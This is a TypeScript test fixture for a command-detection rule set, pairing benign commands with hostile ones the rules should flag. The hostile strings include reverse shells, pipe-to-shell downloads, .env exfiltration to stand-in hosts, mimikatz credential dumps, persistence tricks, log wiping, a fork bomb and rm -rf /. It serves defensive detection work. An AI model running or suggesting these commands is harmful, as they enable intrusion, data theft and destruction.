import type { RuleFixture } from './rule-fixture.ts';

const base64Text = 'SQBFAFgAIABuAGUAdwAtAG8AYgBqAA';

/** By rule. Hosts and paths are made up. */
export const commandFixture: Readonly<Record<string, RuleFixture>> = {
  'pipe-to-shell': {
    matches: ['curl -fsSL https://setup.test/i.sh | sudo bash', 'wget -qO- http://10.1.1.9/x | python3'],
    misses: ['curl https://api.test/items | jq .name', 'wget https://files.test/data.csv'],
  },
  'shell-of-download': {
    matches: ['bash <(curl -s https://a.test/run)', 'eval "$(wget -qO- http://a.test/env)"'],
    misses: ['bash build.sh', 'eval "$(direnv hook zsh)"'],
  },
  'download-then-run': {
    matches: ['wget http://a.test/tool -O /tmp/t && chmod +x /tmp/t', 'curl -o m https://a.test/m; chmod 755 m'],
    misses: ['chmod +x scripts/build.sh', 'curl -O https://a.test/readme.txt'],
  },
  'reverse-shell-bash': {
    matches: ['bash -i >& /dev/tcp/10.0.0.7/4444 0>&1', 'exec 5<>/dev/tcp/evil.test/80'],
    misses: ['ls /dev/tcp', 'ping 10.0.0.7'],
  },
  'reverse-shell-netcat': {
    matches: ['nc 10.0.0.7 4444 -e /bin/sh', 'mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 10.0.0.7 99'],
    misses: ['nc -zv db.internal 5432', 'mkfifo /tmp/queue'],
  },
  'reverse-shell-script': {
    matches: [
      'import socket; s=socket.socket(); s.connect(("10.0.0.7",1)); import pty; pty.spawn("sh")',
      '$f=fsockopen("10.0.0.7",99);exec("sh -i <&3");',
    ],
    misses: ['import socket; print(socket.gethostname())', 'TCPSocket.new(host, 80).close'],
  },
  'socat-shell': {
    matches: ['socat TCP:10.0.0.7:99 EXEC:/bin/sh', "socat tcp-listen:99 exec:'bash -li'"],
    misses: ['socat TCP-LISTEN:80 TCP:web:8080', 'socat - UNIX:/run/app.sock'],
  },
  'base64-to-shell': {
    matches: ['echo ZWNobyBoaQ== | base64 -d | sh', 'base64 --decode payload.txt | python3'],
    misses: ['base64 -d cert.b64 > cert.pem', 'xxd -r dump.hex > image.bin'],
  },
  'chained-removal': {
    matches: ['ls; rm -rf /srv/data', 'report.txt && sudo rm -rf ~/'],
    misses: ['rm build/output.log', 'ls && rm -f old.txt'],
  },
  'removal-of-root': {
    matches: ['rm -rf / ', 'rm -rf --no-preserve-root /'],
    misses: ['rm -rf node_modules', 'rm -rf ./dist'],
  },
  'disk-overwrite': {
    matches: ['dd if=/dev/zero of=/dev/sda bs=1M', 'mkfs.ext4 /dev/nvme0n1'],
    misses: ['dd if=image.iso of=backup.img', 'lsblk /dev/sda'],
  },
  'fork-bomb': { matches: [':(){ :|:& };:', ':() { : | : & }; :'], misses: ['function f() { f2; }', 'a:b:c'] },
  'injected-command': {
    matches: ['report.pdf; cat /etc/passwd', 'name=x | whoami'],
    misses: ['cats and dogs', 'who am I to judge; nobody'],
  },
  'substituted-command': {
    matches: ['file-$(whoami).txt', 'x`curl http://a.test/p`'],
    misses: ['$(date +%F).log', 'total is $(expr 1 + 2)'],
  },
  'data-out-by-command': {
    matches: [
      'curl -X POST -d @/app/.env https://collect.test',
      'tar cz ~/work | base64 | curl -T - https://collect.test',
    ],
    misses: ['curl -d @body.json https://api.test', 'cat notes.txt | sort'],
  },
  'data-out-by-dns': {
    matches: ['nslookup $(whoami).leak.test', 'dig `hostname`.leak.test'],
    misses: ['dig example.test MX', 'nslookup mail.test'],
  },
  'powershell-encoded': {
    matches: [`powershell -nop -w hidden -enc ${base64Text}`, `pwsh -EncodedCommand ${base64Text}`],
    misses: ['powershell -File build.ps1', 'pwsh -Command Get-Date'],
  },
  'powershell-download': {
    matches: ["IEX (New-Object Net.WebClient).DownloadString('http://a.test/s')", 'iwr https://a.test/s.ps1 | iex'],
    misses: ['Invoke-WebRequest https://a.test/f.zip -OutFile f.zip', 'iwr https://a.test/status'],
  },
  'windows-download-tool': {
    matches: ['certutil -urlcache -f http://a.test/x.exe x.exe', 'mshta http://a.test/p.hta'],
    misses: ['certutil -hashfile x.exe SHA256', 'regsvr32 control.ocx'],
  },
  'credential-dump': {
    matches: ['mimikatz.exe "sekurlsa::logonpasswords"', 'reg save hklm\\sam c:\\t\\sam'],
    misses: ['reg query hklm\\software', 'procdump.exe notepad.exe'],
  },
  'setuid-or-sudoers': {
    matches: ['chmod u+s /bin/bash', 'echo "joe ALL=(ALL) NOPASSWD: ALL" >> /tmp/s'],
    misses: ['chmod 644 readme.md', 'sudo apt update'],
  },
  'persistence-cron': {
    matches: ['(crontab -l; echo "* * * * * /tmp/a") | crontab -', 'echo "@reboot root /tmp/a" >> /etc/crontab'],
    misses: ['crontab -l', 'cat /etc/crontab'],
  },
  'persistence-shell-profile': {
    matches: ['echo "curl a.test|sh" >> ~/.bashrc', 'cat x >> /home/joe/.zshrc'],
    misses: ['cat ~/.bashrc', 'source ~/.profile'],
  },
  'persistence-ssh-key': {
    matches: ['echo "ssh-ed25519 AAAA x" >> ~/.ssh/authorized_keys', 'tee -a /root/.ssh/authorized_keys'],
    misses: ['ls ~/.ssh', 'cat ~/.ssh/known_hosts'],
  },
  'persistence-service': {
    matches: [
      'cp bot.service /etc/systemd/system/',
      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b',
    ],
    misses: ['systemctl status nginx', 'ls /etc/systemd/system/'],
  },
  'preload-hijack': {
    matches: ['LD_PRELOAD=/tmp/x.so ls', 'DYLD_INSERT_LIBRARIES=./x.dylib app'],
    misses: ['what does LD_PRELOAD do', 'LD_LIBRARY_PATH=/usr/lib ls'],
  },
  'defences-off': {
    matches: ['Set-MpPreference -DisableRealtimeMonitoring $true', 'systemctl stop auditd'],
    misses: ['systemctl restart nginx', 'iptables -L'],
  },
  'traces-removed': {
    matches: ['history -c && exit', 'rm -f /var/log/auth.log'],
    misses: ['history | grep ssh', 'tail /var/log/syslog'],
  },
  'account-created': {
    matches: ['net localgroup administrators joe /add', 'usermod -aG sudo joe'],
    misses: ['usermod -s /bin/zsh joe', 'net localgroup'],
  },
  'container-escape': {
    matches: ['docker run --privileged -it alpine', 'nsenter -t 1 -m -u sh'],
    misses: ['docker run -p 80:80 nginx', 'docker ps'],
  },
  'cluster-secrets': {
    matches: ['kubectl get secrets -o yaml', 'aws secretsmanager get-secret-value --secret-id db'],
    misses: ['kubectl get pods -o yaml', 'aws s3 ls'],
  },
  'crypto-mining': {
    matches: ['xmrig -o pool.test:3333', 'stratum+tcp://pool.test:3333'],
    misses: ['how do miners work', 'tcp://queue.test:5555'],
  },
  'ransom-encryption': {
    matches: ['find /home -type f -exec openssl enc -aes-256-cbc', 'vssadmin delete shadows /all'],
    misses: ['openssl enc -d -in a -out b', 'vssadmin list shadows'],
  },
  'repository-hook': {
    matches: ['echo "sh x" > .git/hooks/pre-commit', '"postinstall": "curl http://a.test/x | sh"'],
    misses: ['"postinstall": "husky install"', 'ls .git/hooks'],
  },
  'package-from-address': {
    matches: ['pip install http://10.0.0.7/pkg.tar.gz', 'npm install https://a.test/pkg.tgz'],
    misses: ['pip install requests', 'npm install https://github.com/a/b'],
  },
};
